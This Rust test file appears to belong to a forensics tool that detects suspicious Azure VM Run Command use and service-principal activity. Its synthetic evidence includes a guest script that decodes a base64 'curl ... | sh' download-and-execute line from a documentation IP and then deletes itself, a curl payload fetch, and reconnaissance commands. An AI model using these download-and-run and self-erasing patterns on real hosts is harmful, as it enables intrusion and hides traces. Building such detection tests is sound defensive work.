//! One case in which every detector of guests, identities and scripts speaks: in whatever order its files come, and however often, the same is said.

use super::{Table, json};
use crate::case::Case;
use crate::detect::TABLE;
use crate::formats::ItemReader;
use crate::lists::{ListKind, Lists};
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::fmt::Write;

const HANDLER: &str = "web01/var/log/azure/run-command/handler.log";
const CONFIG: &str = "web01/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5";
const MANAGED: &str = "web01/var/lib/waagent/Microsoft.CPlat.Core.RunCommandHandlerLinux-1.3.9";
const ROBOT: &str = "bbbbbbbb-0000-0000-0000-000000000002";

fn status(time: &str, out: &str) -> String {
    let message = format!("Enable succeeded: \n[stdout]\n{out}\n[stderr]\n");
    json!([{ "version": 1, "timestampUTC": time, "status": { "operation": "Enable", "status": "success",
        "formattedMessage": { "lang": "en", "message": message } } }])
    .to_string()
}

/// The Activity Log: a day of reads, commands, and what identities did before them.
fn operations() -> Table {
    let mut lines = String::new();
    for quarter in 0..96 {
        writeln!(
            lines,
            "2024-05-01T{:02}:{:02}:30 Microsoft.Storage/storageAccounts/read olga 40.5.6.7 /a",
            quarter / 4,
            quarter % 4 * 15
        )
        .expect("text");
    }
    for (time, vm) in [
        ("10:00:00", "web01"),
        ("11:00:00", "web01"),
        ("12:00:00", "web01"),
        ("13:00:00", "win01"),
        ("13:01:00", "win01"),
        ("13:02:00", "win01"),
    ] {
        writeln!(lines, "2024-05-01T{time} run {ROBOT} 52.1.2.3 {vm} end=+40").expect("text");
    }
    Table::of(&lines)
}

fn log_lines() -> String {
    let mut log = String::new();
    for (clock, number) in [("10:00", 3), ("12:00", 5), ("17:00", 6)] {
        for (second, event) in [(5, "executing command"), (9, "executed command")] {
            writeln!(log, "time=2024-05-01T{clock}:{second:02}Z version=v1.0.5/git@0-clean operation=enable seq={number} event=\"{event}\"").expect("text");
        }
    }
    log.push_str("time=2024-05-01T18:00:00Z version=v1.0.5/git@0-clean operation=uninstall seq=6 event=\"removed data dir\"\n");
    log
}

/// Rows of a sensor on a Windows guest.
fn sensor() -> String {
    let script = "powershell  -ExecutionPolicy Unrestricted -File script";
    let row = |time: &str, more: serde_json::Value| {
        let mut row = json!({ "Timestamp": format!("2024-05-01T{time}Z"), "DeviceName": "win01.contoso.example" });
        for (key, value) in more.as_object().expect("an object") {
            row[key] = value.clone();
        }
        row
    };
    let process = |time: &str,
                   (pid, parent): (u64, u64),
                   image: &str,
                   line: &str,
                   above: &str,
                   above_line: &str| {
        row(
            time,
            json!({ "ActionType": "ProcessCreated", "FileName": image, "ProcessId": pid, "ProcessCommandLine": line,
            "InitiatingProcessId": parent, "InitiatingProcessFileName": above, "InitiatingProcessCommandLine": above_line }),
        )
    };
    let mut rows = vec![
        process(
            "13:00:06",
            (500, 400),
            "whoami.exe",
            "whoami /all",
            "powershell.exe",
            &format!("{script}0.ps1"),
        ),
        process(
            "13:01:06",
            (501, 401),
            "curl.exe",
            "curl http://203.0.113.7/i.sh -o a",
            "powershell.exe",
            &format!("{script}1.ps1"),
        ),
        process(
            "14:00:00",
            (600, 90),
            "CustomScriptHandler.exe",
            "CustomScriptHandler.exe enable",
            "agent.exe",
            "agent",
        ),
        process(
            "14:00:05",
            (601, 600),
            "net.exe",
            "net user",
            "CustomScriptHandler.exe",
            "CustomScriptHandler.exe enable",
        ),
    ];
    for (number, size) in [(0, 10), (1, 20), (2, 30)] {
        rows.push(row(&format!("13:0{number}:05"), json!({ "ActionType": "FileCreated", "FileName": format!("script{number}.ps1"),
            "FolderPath": r"C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.22\Downloads", "FileSize": size,
            "SHA256": format!("{number}a").repeat(32), "InitiatingProcessFileName": "RunCommandExtension.exe" })));
    }
    serde_json::Value::from(rows).to_string()
}

/// All files, with a list and small thresholds.
fn everything() -> (Vec<(String, String)>, Table) {
    let table = operations();
    let mut files: Vec<(String, String)> = vec![
        ("log.json".into(), serde_json::Value::from(table.rows.clone()).to_string()),
        ("sensor.json".into(), sensor()),
        (HANDLER.into(), log_lines()),
        (format!("{CONFIG}/status/3.status"), status("2024-05-01T10:00:09Z", "secret")),
        (format!("{CONFIG}/status/5.status"), status("2024-05-01T12:00:09Z", "ok")),
        (format!("{CONFIG}/status/6.status"), json!([{ "version": 1, "timestampUTC": "2024-05-01T17:00:09Z", "status": { "operation": "Enable", "status": "success",
            "formattedMessage": { "lang": "en", "message": "Enable succeeded: Last script execution didn't finish." } } }]).to_string()),
        ("web01/var/lib/waagent/run-command/download/3/stdout".into(), String::from("edited\n")),
        ("web01/var/lib/waagent/run-command/download/3/script.sh".into(), "#!/bin/sh\necho Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvaXxzaAo= | base64 -d | sh\nrm -f -- \"$0\"\n".into()),
        ("web01/var/lib/waagent/run-command/download/5/script.sh".into(), "#!/bin/sh\necho 5\n".into()),
        (format!("{MANAGED}/config/rc1.0.settings"), r#"{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"source":{"script":"id\n"}}}}]}"#.into()),
        (format!("{MANAGED}/status/rc1.0.status"), status("2024-05-01T15:00:09Z", "ok")),
        ("web01/var/lib/waagent/run-command-handler/download/rc1/0/script.sh".into(), "true\n".into()),
        ("web01/var/log/azure/run-command-handler/handler.log".into(),
            "time=2024-05-01T15:00:00Z version=v1.3.9/git@0-clean operation=enable extensionName=rc1 seq=0 message=\"RunAs cmd is echo S3cret | sudo -S -u ops /home/ops/waagent/run-command-handler-runas/download/rc1/0/script.sh\"\n".into()),
        ("web01/var/log/waagent.log".into(), "2024-05-01T10:10:00.000000Z INFO Daemon Daemon one\n2024-05-01T10:05:00.000000Z INFO Daemon Daemon two\n2024-05-01T19:05:00.000000Z INFO Daemon Daemon three\n".into()),
    ];
    let sign_in = |time: &str, id: &str, risk: &str| {
        json!({ "createdDateTime": time, "appId": "app", "servicePrincipalId": id, "servicePrincipalName": "robot", "ipAddress": "52.1.2.3",
            "status": { "errorCode": 0 }, "riskLevelDuringSignIn": risk })
    };
    files.push((
        "in.json".into(),
        json!([
            sign_in("2024-01-01T00:00:00Z", "someone-else", "none"),
            sign_in("2024-03-01T00:00:00Z", ROBOT, "none"),
            sign_in("2024-05-01T09:50:00Z", ROBOT, "high"),
        ])
        .to_string(),
    ));
    files.push(("audit.json".into(), json!([{
        "activityDateTime": "2024-05-01T09:00:00Z", "activityDisplayName": "Add service principal credentials", "result": "success",
        "initiatedBy": { "user": { "id": "mallory", "userPrincipalName": "mallory@contoso.example" } },
        "targetResources": [{ "id": ROBOT, "displayName": "robot" }], "additionalDetails": [{ "key": "AppId", "value": "app" }],
    }]).to_string()));
    let table = table
        .set("unique-script.least_executions", "2")
        .list(ListKind::WatchList, "203.0.113.7\n52.1.2.3\n");
    (files, table)
}

fn case(files: &[(String, String)], table: &Table) -> Case {
    let mut case = Case::new(table.settings.clone());
    case.set_lists(Lists::clone(&table.lists));
    for (path, text) in files {
        let item = case.add_item(path, text.len() as u64, None);
        let mut reader =
            ItemReader::new(path, text.len() as u64, None, table.settings.limits.clone());
        reader.push(text.as_bytes());
        while let Some(batch) = reader.take_batch() {
            case.add_batch(item, &batch);
        }
        case.finish_item(item, &reader.finish());
        case.set_hash(item, &crate::evidence::hash::sha256(text.as_bytes()));
    }
    case.conclude();
    case
}

/// Findings with their events by place, since an event's number says when it came.
fn said(case: &Case) -> Vec<String> {
    let place = |event: u32| {
        let item = &case.items()[case.store().item_of(event) as usize];
        (item.path.clone(), case.store().span(event).offset)
    };
    let mut all: Vec<String> = case
        .findings()
        .iter()
        .map(|one| {
            let events: Vec<_> = one.events.iter().map(|event| place(*event)).collect();
            let rest = crate::detect::Finding {
                events: Vec::new(),
                ..case.referred().spelled_out(one)
            };
            format!("{rest:?} {events:?}")
        })
        .collect();
    all.push(format!("{:?} {:?}", case.searched(), case.incidents()));
    all
}

/// What the property below speaks about: each detector that rows alone cannot wake. A new one must be woken here, or by rows.
#[test]
fn every_detector_of_guests_identities_and_scripts_speaks() {
    let (files, table) = everything();
    let case = case(&files, &table);
    let spoke: BTreeSet<&str> = case.findings().iter().map(|one| &*one.detector).collect();
    let rows_alone = Table::of("2024-05-01T10:00:00 run alice 52.1.2.3 vm1").case();
    let silent_on_rows = |id: &&str| {
        let searched = rows_alone.searched().iter().find(|one| one.detector == *id);
        let why = searched.and_then(|one| one.not_assessed.as_deref());
        super::ELSEWHERE.contains(id)
            || why.is_some_and(|why| super::NO_GUEST.iter().any(|no| why.contains(no)))
    };
    let wanted: BTreeSet<&str> = TABLE
        .iter()
        .map(|one| one.id)
        .filter(silent_on_rows)
        .collect();
    let missing: Vec<&&str> = wanted.difference(&spoke).collect();
    assert!(missing.is_empty(), "{missing:?}");
    assert!(wanted.len() >= 19, "{wanted:?}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    #[test]
    fn any_order_and_any_copies_of_files_give_the_same_findings(
        places in prop::collection::vec(any::<prop::sample::Index>(), 24),
    ) {
        let (files, table) = everything();
        let mut other = files.clone();
        for (at, place) in places.iter().enumerate() {
            let n = other.len();
            if at % 6 == 0 {
                let copy = other[place.index(n)].clone();
                other.push(copy);
            } else {
                other.swap(at % n, place.index(n));
            }
        }
        prop_assert_eq!(said(&case(&files, &table)), said(&case(&other, &table)));
    }
}
